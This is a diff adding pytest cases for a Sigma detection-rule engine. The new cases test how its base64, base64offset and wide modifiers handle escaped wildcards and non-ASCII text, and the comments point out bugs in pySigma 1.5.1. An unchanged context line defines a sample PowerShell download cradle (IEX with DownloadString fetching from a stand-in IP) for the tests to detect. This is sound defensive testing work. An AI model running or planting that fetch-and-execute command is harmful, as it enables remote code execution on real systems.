@@ -359,6 +359,33 @@ def test_base64offset_contains_finds_the_value_at_each_offset(offset: int) -> No
     assert hits(detection, events) == {"encoded"}
 
 
+@pytest.mark.parametrize("prefix", ["", "G", "GE"])
+def test_base64offset_of_an_escaped_wildcard_encodes_the_character_itself(prefix: str) -> None:
+    # "\?" is a literal question mark (a URL's query), so the encoding is that of "?", without the backslash.
+    # (pySigma 1.5.1 encodes its to_plain() text, which escapes the mark again, and trims by the wrong length.)
+    detection = r"""
+        selection:
+            Payload|base64offset|contains: 'index.php\?id='
+        condition: selection
+    """
+    events = {
+        "query": {"Payload": b64(prefix.encode() + b"T /index.php?id=1")},
+        "backslash": {"Payload": b64(prefix.encode() + b"T /index.php\\?id=1")},
+        "other_page": {"Payload": b64(prefix.encode() + b"T /home.php?id=1")},
+    }
+    assert hits(detection, events) == {"query"}
+
+
+def test_base64_of_an_escaped_star() -> None:
+    detection = r"""
+        selection:
+            Payload|base64: 'SELECT \* FROM users'
+        condition: selection
+    """
+    events = {"star": {"Payload": b64(b"SELECT * FROM users")}, "backslash": {"Payload": b64(b"SELECT \\* FROM users")}}
+    assert hits(detection, events) == {"star"}
+
+
 # --- wide / utf16le / utf16be / utf16 (the PowerShell -EncodedCommand case) -------------------------
 
 POWERSHELL_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
@@ -380,6 +407,22 @@ def test_wide_base64offset_finds_a_powershell_encoded_command(encoding_modifier:
         "plain": {"CommandLine": "powershell.exe -NoP -Command " + POWERSHELL_SCRIPT},
     }
     assert hits(detection, events) == {"encoded_command"}
+
+
+@pytest.mark.parametrize("word", ["пароль", "café", "密码"])
+def test_wide_base64offset_of_non_ascii_text(word: str) -> None:
+    # Specification: utf16le/wide "transforms value to UTF16-LE encoding", whatever the characters. pySigma
+    # 1.5.1 refuses "é" and garbles "п" (its UTF-16LE bytes 3F 04 hold a "?", which it escapes).
+    detection = f"""
+        selection:
+            ScriptBlockText|wide|base64offset|contains: '{word}'
+        condition: selection
+    """
+    events = {
+        "encoded": {"ScriptBlockText": b64(f"$p = '{word}'".encode("utf-16-le"))},
+        "utf8": {"ScriptBlockText": b64(f"$p = '{word}'".encode())},
+    }
+    assert hits(detection, events) == {"encoded"}
 
 
 def test_wide_without_base64_matches_the_utf16le_text() -> None:
